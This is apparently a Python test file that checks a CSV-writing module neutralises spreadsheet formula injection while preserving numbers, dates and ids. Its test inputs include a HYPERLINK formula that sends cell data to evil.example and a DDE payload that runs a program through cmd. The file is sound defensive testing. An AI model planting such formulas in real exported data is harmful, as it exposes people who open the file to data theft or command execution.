"""CSV formula injection (#17 item 1): every CSV the platform writes neutralises cells that a
spreadsheet would run as a formula, and leaves numbers, dates and ids byte for byte."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import duckdb
import pytest

from sihat.core import csvsafe

SRC = Path(__file__).resolve().parents[2] / "src" / "sihat"


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
        "+SUM(1,2)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "-",
        "+",
        "=",
    ],
)
def test_a_formula_becomes_text(value: str) -> None:
    assert csvsafe.neutralise(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        "-12",
        "-0.5",
        "+60123456789",
        "1e-3",
        "-1.5E+10",
        "2021-07-01",
        "2021-07-01T08:00:00+08:00",
        "Ahmad bin Ali",
        "",
        "0f3c-uuid",
        "'=already",
        12,
        -3,
        -0.25,
        None,
    ],
)
def test_numbers_dates_ids_and_text_are_untouched(value: object) -> None:
    assert csvsafe.neutralise(value) == value


def test_writers_neutralise_every_cell_and_keep_numbers() -> None:
    plain, mapped = io.StringIO(), io.StringIO()
    csvsafe.writer(plain, lineterminator="\n").writerows([["=1+1", -5, "-5", "2021-01-02"]])
    out = csvsafe.DictWriter(mapped, fieldnames=["name", "n"], lineterminator="\n", restval="")
    out.writeheader()
    out.writerow({"name": "@cmd"})
    assert plain.getvalue() == "'=1+1,-5,-5,2021-01-02\n"
    assert mapped.getvalue() == "name,n\n'@cmd,\n"


def test_duckdb_copy_neutralises_text_columns_only(tmp_path: Path) -> None:
    con = duckdb.connect()
    con.execute(
        "CREATE TABLE t AS SELECT * FROM (VALUES "
        "('=HYPERLINK(\"x\")', -7, '-7', DATE '2021-03-04', -1.5), "
        "('Siti', 3, '+6012', DATE '2021-03-05', 2.0), "
        "('\tx', 0, '-1-1', DATE '2021-03-06', 0.0)"
        ") v(name, n, code, day, score)"
    )
    target = tmp_path / "out.csv"
    csvsafe.duckdb_copy(con, "SELECT * FROM t", str(target), "HEADER, DELIMITER ','")
    rows = list(csv.reader(io.StringIO(target.read_text())))
    assert rows == [
        ["name", "n", "code", "day", "score"],
        ['\'=HYPERLINK("x")', "-7", "-7", "2021-03-04", "-1.5"],
        ["Siti", "3", "+6012", "2021-03-05", "2.0"],
        ["'\tx", "0", "'-1-1", "2021-03-06", "0.0"],
    ]


WRITES_CSV = re.compile(r"csv\.(writer|DictWriter)\(|\bCOPY\b[^\n]*\bTO\b")


def test_no_module_writes_csv_around_the_safe_writer() -> None:
    """The class, not one instance: a new CSV writer anywhere in sihat must use core.csvsafe."""
    offenders = [
        f"{path.relative_to(SRC)}:{n}"
        for path in SRC.rglob("*.py")
        if path.name != "csvsafe.py"
        for n, line in enumerate(path.read_text().splitlines(), 1)
        if WRITES_CSV.search(line) and not line.lstrip().startswith("#")
    ]
    assert offenders == []
